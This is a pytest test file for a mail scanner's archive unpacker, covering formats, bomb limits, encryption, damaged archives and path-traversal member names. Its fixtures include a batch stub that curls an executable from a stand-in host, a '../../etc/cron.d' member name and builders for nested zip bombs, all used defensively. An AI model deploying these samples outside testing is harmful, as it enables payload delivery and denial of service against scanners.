"""Archives: formats, members through the same ruleset, limits against bombs, encryption."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import subprocess
import tarfile
import zipfile
from pathlib import Path

import py7zr
import pytest

from mailowl.analysis.archive import ArchiveLimits, detect_format, unpack
from mailowl.analysis.sample import Sample
from mailowl.results import Result

from .helpers import engine, run

RAR = Path(__file__).parent / "data" / "rar"
RULES = ["archive", "expressions", "final_rule"]
BAT_IS_BAD = {"expression": ["sample.file_extension == 'bat' -> bad"]}
EVIL = b"@echo off\r\ncurl http://x.invalid/a.exe\r\n"


def make_zip(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def make_tar(members: dict[str, bytes], mode: str = "w") -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode=mode) as tf:  # type: ignore[call-overload]
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def make_7z(members: dict[str, bytes], password: str | None = None) -> bytes:
    buf = io.BytesIO()
    with py7zr.SevenZipFile(buf, "w", password=password) as zf:
        if password:
            zf.set_encrypted_header(True)
        for name, data in members.items():
            zf.writestr(data, name)
    return buf.getvalue()


@pytest.mark.parametrize(("fmt", "data", "name"), [
    ("zip", make_zip({"run.bat": EVIL}), "a.zip"),
    ("tar", make_tar({"dir/run.bat": EVIL}), "a.tar"),
    ("tar.gz", make_tar({"run.bat": EVIL}, "w:gz"), "a.tar.gz"),
    ("7z", make_7z({"run.bat": EVIL}), "a.7z"),
    ("gzip", gzip.compress(EVIL), "run.bat.gz"),
    ("bzip2", bz2.compress(EVIL), "run.bat.bz2"),
    ("xz", lzma.compress(EVIL), "run.bat.xz"),
])
def test_each_format_has_its_members_judged(fmt: str, data: bytes, name: str) -> None:
    verdict = run(engine(RULES, expressions=BAT_IS_BAD), data, name)
    assert verdict.result is Result.bad, verdict
    assert "run.bat" in verdict.reason
    report = unpack(Sample(data, name), ArchiveLimits())
    assert report.format == fmt
    assert report.contents[0].content == EVIL
    assert report.contents[0].depth == 1


def test_rar_members_are_read() -> None:
    report = unpack(Sample((RAR / "rar3-subdirs.rar").read_bytes(), "x.rar"), ArchiveLimits())
    assert report.format == "rar" and report.error is None, report
    assert "sub/dir1/file1.txt" in report.members and report.member_count == 4
    rar5 = unpack(Sample((RAR / "rar5-blake.rar").read_bytes(), "y.rar"), ArchiveLimits())
    assert rar5.error is None and [len(s.content) for s in rar5.contents] == [2048, 2048]


def test_encrypted_archives_get_the_configured_result(tmp_path: Path) -> None:
    (tmp_path / "invoice.txt").write_text("hello")
    subprocess.run(["bsdtar", "--options", "zip:encryption=zipcrypt", "--passphrase", "secret", "-a", "-cf",
                    str(tmp_path / "enc.zip"), "-C", str(tmp_path), "invoice.txt"], check=True)
    encrypted_zip = (tmp_path / "enc.zip").read_bytes()
    default = run(engine(RULES, expressions=BAT_IS_BAD), encrypted_zip, "enc.zip")
    assert default.result is Result.bad and "Encrypted zip" in default.reason
    lenient = engine(RULES, expressions=BAT_IS_BAD, archive={"encrypted_result": "unknown"})
    assert run(lenient, encrypted_zip, "enc.zip").rules[0].result is Result.unknown
    assert run(engine(RULES, expressions=BAT_IS_BAD), make_7z({"a.txt": b"x" * 50}, "pw"), "e.7z").result is Result.bad
    assert run(engine(RULES, expressions=BAT_IS_BAD), (RAR / "rar3-comment-psw.rar").read_bytes(),
               "e.rar").result is Result.bad


def test_nested_bomb_is_stopped_while_unpacking() -> None:
    # 42.zip-style: 10 layers deep would exceed the depth limit; each layer also has a high ratio
    layer = make_zip({"zeros.bin": b"\x00" * (20 * 2**20)})
    for depth in range(5):
        layer = make_zip({f"layer{depth}-{i}.zip": layer for i in range(4)})
    assert len(layer) < 200_000
    verdict = run(engine(RULES, expressions=BAT_IS_BAD), layer, "bomb.zip")
    assert verdict.result is Result.bad
    assert "exceeds a limit" in verdict.reason or "limit" in verdict.reason


@pytest.mark.parametrize(("limits", "data", "message"), [
    (ArchiveLimits(max_members=3), make_zip({f"f{i}.txt": b"x" for i in range(5)}), "more than 3 members"),
    (ArchiveLimits(max_total_size=1000), make_zip({"a.txt": b"a" * 600, "b.txt": b"b" * 600}), "exceeds 1000 bytes"),
    (ArchiveLimits(max_ratio=50, ratio_min_size=1024), make_zip({"z": b"\x00" * 100_000}), "compression ratio"),
    (ArchiveLimits(max_total_size=10_000), gzip.compress(b"\x00" * 1_000_000), "exceeds 10000 bytes"),
    (ArchiveLimits(max_depth=0), make_zip({"a": b"1"}), "nested deeper than 0"),
])
def test_each_limit(limits: ArchiveLimits, data: bytes, message: str) -> None:
    report = unpack(Sample(data, "x"), limits)
    assert report.limit_hit is not None and message in report.limit_hit, report.limit_hit


def test_limit_result_is_configurable() -> None:
    eng = engine(RULES, expressions=BAT_IS_BAD, archive={"max_members": 1, "limit_result": "failed"})
    assert run(eng, make_zip({"a": b"1", "b": b"2"}), "x.zip").result is Result.failed


def test_damaged_archive_is_failed_not_bad() -> None:
    data = make_zip({"a.txt": b"hello world" * 10})
    broken = data[:30] + b"\xff" * 20 + data[50:]
    verdict = run(engine(RULES, expressions=BAT_IS_BAD), broken, "broken.zip")
    assert verdict.result is Result.failed


def test_nested_archives_recurse_within_depth() -> None:
    inner = make_zip({"deep/run.bat": EVIL})
    outer = make_tar({"inner.zip": inner})
    verdict = run(engine(RULES, expressions=BAT_IS_BAD), outer, "outer.tar")
    assert verdict.result is Result.bad and "inner.zip" in verdict.reason


def test_non_archives_pass_through() -> None:
    assert detect_format(b"hello") is None
    assert run(engine(RULES, expressions=BAT_IS_BAD), b"plain text here", "a.txt").rules[0].reason == "Not an archive"


def test_member_names_never_become_paths() -> None:
    report = unpack(Sample(make_zip({"../../etc/cron.d/evil.bat": EVIL}), "x.zip"), ArchiveLimits())
    assert report.contents[0].filename == "evil.bat"


# --- Budgets for the whole top-level sample (issue 7, point 3) ---

def random_bytes(n: int, seed: int) -> bytes:
    import random
    return random.Random(seed).randbytes(n)


@pytest.mark.parametrize(("inner", "limit", "reason"), [
    # each inner zip alone is within the limit; together they are not
    ([make_zip({f"r{i}.bin": random_bytes(300_000, i)}) for i in range(4)], {"max_total_size": 1_000_000},
     "unpacked size exceeds 1000000 bytes in all nested archives together"),
    ([make_zip({f"{j}.txt": f"note {i}-{j}".encode() for j in range(5)}) for i in range(3)], {"max_members": 10},
     "more than 10 members in all nested archives together"),
], ids=["unpacked-size", "member-count"])
def test_limits_are_one_budget_across_nesting_levels(inner: list[bytes], limit: dict[str, int], reason: str) -> None:
    outer = make_zip({f"inner{i}.zip": data for i, data in enumerate(inner)})
    verdict = run(engine(RULES, expressions=BAT_IS_BAD, archive=limit), outer, "outer.zip")
    assert verdict.result is Result.bad, verdict
    assert reason in verdict.reason


def test_ratio_counts_many_small_members() -> None:
    # 40 members of 100 KB zeros: each far below 1 MiB, together 4 MB from a ~10 KB zip
    data = make_zip({f"z{i}.bin": b"\x00" * 100_000 for i in range(40)})
    assert len(data) < 20_000
    verdict = run(engine(RULES, expressions=BAT_IS_BAD), data, "many.zip")
    assert verdict.result is Result.bad, verdict
    assert "compression ratio above 100:1" in verdict.reason


def test_wide_nested_bomb_hits_a_limit() -> None:
    # the reported bomb, scaled down: zips of zips of zero-filled members
    inner = make_zip({f"m{j}.bin": b"\x00" * 200_000 for j in range(20)})
    outer = make_zip({f"i{i}.zip": inner for i in range(20)})
    verdict = run(engine(RULES, expressions=BAT_IS_BAD, archive={"limit_result": "failed"}), outer, "b.zip")
    assert verdict.result is Result.failed and "Archive exceeds a limit" in verdict.reason, verdict


def test_limit_is_checked_while_decompressing_not_after() -> None:
    # a gzip of 50 MB zeros with a 1 MB budget: the reader stops after about one chunk past the limit
    data = gzip.compress(b"\x00" * 50_000_000)
    from mailowl.analysis.archive import Budget
    budget = Budget(ArchiveLimits(max_total_size=1_000_000, max_ratio=10**9), len(data))
    report = unpack(Sample(data, "z.gz"), budget)
    assert report.limit_hit and "exceeds 1000000 bytes" in report.limit_hit
    assert budget.unpacked < 1_000_000 + 2 * 65536


@pytest.mark.parametrize(("fmt", "mode", "name"), [("tar.bz2", "w:bz2", "a.tar.bz2"), ("tar.xz", "w:xz", "a.txz")])
def test_compressed_tars_are_unpacked(fmt: str, mode: str, name: str) -> None:
    data = make_tar({"run.bat": EVIL}, mode)
    report = unpack(Sample(data, name), ArchiveLimits())
    assert report.format == fmt and report.contents[0].content == EVIL, report
    assert run(engine(RULES, expressions=BAT_IS_BAD), data, name).result is Result.bad


# --- Damaged archives of every format (issue 7, point 5) ---

def corrupt_tar() -> bytes:
    data = bytearray(make_tar({"a.txt": b"first" * 100, "run.bat": EVIL, "c.txt": b"third"}))
    second = 512 + 512  # the first header, then its 500 bytes of data padded to one block
    data[second + 148: second + 156] = b"garbage!"  # the second header's checksum
    return bytes(data)


@pytest.mark.parametrize(("data", "name"), [
    (b"Rar!\x1a\x07\x01\x00" + random_bytes(5000, 1), "rar5-garbage.rar"),
    (b"Rar!\x1a\x07\x00" + random_bytes(5000, 2), "rar4-garbage.rar"),
    ((RAR / "rar3-subdirs.rar").read_bytes()[:int(len((RAR / "rar3-subdirs.rar").read_bytes()) * 0.3)], "cut.rar"),
    ((RAR / "rar5-blake.rar").read_bytes()[:40], "cut5.rar"),
    (corrupt_tar(), "bad-header.tar"),
    (gzip.compress(EVIL + random_bytes(5000, 3))[:2000], "cut.bat.gz"),
    (lzma.compress(EVIL + random_bytes(5000, 4))[:2000], "cut.bat.xz"),
])
def test_damaged_archives_get_damaged_result(data: bytes, name: str) -> None:
    verdict = run(engine(RULES, expressions=BAT_IS_BAD), data, name)
    assert verdict.result is Result.failed, verdict
    assert verdict.rules[0].rule == "archive" and "could not be read" in verdict.reason, verdict
    lenient = engine(RULES, expressions=BAT_IS_BAD, archive={"damaged_result": "unknown"})
    assert run(lenient, data, name).rules[0].result is Result.unknown


def test_tar_ending_in_zero_blocks_or_at_data_end_is_complete() -> None:
    data = make_tar({"a.txt": b"x" * 10, "b.txt": b"y"})
    assert unpack(Sample(data, "a.tar"), ArchiveLimits()).member_count == 2
    without_end_blocks = data[: 512 * 4]  # two headers, two data blocks, no end-of-archive blocks
    report = unpack(Sample(without_end_blocks, "a.tar"), ArchiveLimits())
    assert report.error is None and report.member_count == 2, report
